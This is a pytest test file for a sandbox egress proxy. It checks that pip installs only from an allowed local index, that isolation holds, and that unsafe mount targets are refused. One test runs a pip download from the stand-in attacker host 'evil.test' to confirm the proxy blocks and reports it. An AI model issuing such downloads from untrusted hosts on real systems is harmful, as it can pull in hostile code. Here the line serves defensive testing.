"""From inside a real sandbox: pip reaches the listed index through the proxy, and nothing else reaches anything."""

from __future__ import annotations

import os

import pytest

from agent.protocols import Isolation, Mount, SandboxSpec
from tests.package_index import NAME, PackageIndex, package_index
from tests.sandboxes import Place, place, sh
from worker.adapters.egress import HostPattern, Indexes, Policy, ProxyEgress
from worker.errors import IsolationMissing, SandboxUnavailable

PIP = "for p in $(type -aP python3); do $p -m pip --version >/dev/null 2>&1 && break; done; exec $p -m pip"


@pytest.fixture(scope="module", params=list(Isolation))
def sandboxes(request, tmp_path_factory) -> Place:
    folder = tmp_path_factory.mktemp("egress")
    try:
        return place(folder, isolation=request.param, cgroup=os.environ.get("TEST_CGROUP"))
    except IsolationMissing as e:
        pytest.skip(f"{request.param.value} can't be had here: {e}")


@pytest.fixture(scope="module")
def index():
    with package_index() as running:
        yield running


def egress_to(index: PackageIndex, root) -> ProxyEgress:
    policy = Policy(private=(HostPattern.parse(f"{NAME}:{index.port}"),))
    return ProxyEgress(root, policy, lambda: Indexes(env=index.env), resolve=index.resolve)


def test_pip_installs_through_the_proxy_and_what_is_not_listed_is_blocked_and_reported(sandboxes, index, tmp_path):
    target = tmp_path / "made"
    target.mkdir()
    index.asked.clear()
    with egress_to(index, tmp_path / "egress").open() as way:
        spec = SandboxSpec(
            git_dir=sandboxes.git_dir,
            tree=sandboxes.commit,
            mounts=(*way.mounts, Mount(source=target, target="/opt/setup", writable=True)),
            env=way.env,
        )
        session = sandboxes.sandbox.open(spec)
        try:
            script = f"({PIP} install --no-cache-dir --target /opt/setup/lib tinypkg)"
            done = session.exec(way.command(["bash", "-c", script]), timeout=120)
            assert done.returncode == 0, done
            asked = session.exec(
                way.command(["bash", "-c", f"{PIP} download --index-url https://evil.test/simple nothing"]), timeout=120
            )
            assert asked.returncode == 1
            # Without the bridge there is no way at all, and a command's status comes through it.
            assert sh(session, 'test -z "$HTTPS_PROXY" && python3 -c "import tinypkg"').returncode == 1
            assert session.exec(way.command(["sh", "-c", "exit 7"]), timeout=30).returncode == 7
            assert session.exec(way.command(["sh", "-c", "kill -9 $$"]), timeout=30).returncode == 137
            assert session.exec(way.command(["no-such-program"]), timeout=30).returncode == 127
            assert sh(session, "touch /run/egress/x").returncode != 0
        finally:
            session.close()
    assert [(b.host, b.port, b.reason) for b in way.blocked] == [("evil.test", 443, "not on the list of allowed hosts")]
    assert (target / "lib" / "tinypkg.py").exists()
    assert index.asked == ["/simple/tinypkg/", "/files/tinypkg-1.0-py3-none-any.whl"]
    assert list((tmp_path / "egress").glob("e-*")) == []


def test_mounts_env_and_path_of_a_spec(sandboxes, tmp_path):
    layer = tmp_path / "layer"
    (layer / "bin").mkdir(parents=True)
    (layer / "bin" / "grep").write_text("#!/bin/sh\necho mine\n")
    (layer / "bin" / "grep").chmod(0o755)
    spec = SandboxSpec(
        git_dir=sandboxes.git_dir,
        tree=sandboxes.commit,
        mounts=(Mount(source=layer, target="/opt/setup"), Mount(source=layer / "bin", target="/node_modules")),
        env={"COLOUR": "blue"},
        path=("/opt/setup/bin",),
    )
    session = sandboxes.sandbox.open(spec)
    try:
        done = sh(session, "grep; echo $COLOUR; ls /node_modules; touch /opt/setup/x 2>/dev/null || echo kept")
        assert done.stdout.text == "mine\nblue\ngrep\nkept\n"
        assert sh(session, "echo $COLOUR", env={"COLOUR": "red"}).stdout.text == "red\n"
        assert session.snapshot() == sandboxes.tree
    finally:
        session.close()


@pytest.mark.parametrize("target", ["/usr", "/workspace/x", "/opt/../etc", "/etc", "/runner", "/proc"])
def test_a_mount_never_covers_what_is_not_ours(sandboxes, tmp_path, target):
    spec = SandboxSpec(
        git_dir=sandboxes.git_dir, tree=sandboxes.commit, mounts=(Mount(source=tmp_path, target=target),)
    )
    with pytest.raises(SandboxUnavailable, match="nothing may be mounted"):
        sandboxes.sandbox.open(spec)


def test_without_any_host_a_set_up_is_refused_with_words(tmp_path):
    refused = ProxyEgress(tmp_path, Policy(), Indexes).refusal
    assert refused is not None
    assert "DEVSTRAL_FIX_EGRESS_HOSTS" in refused
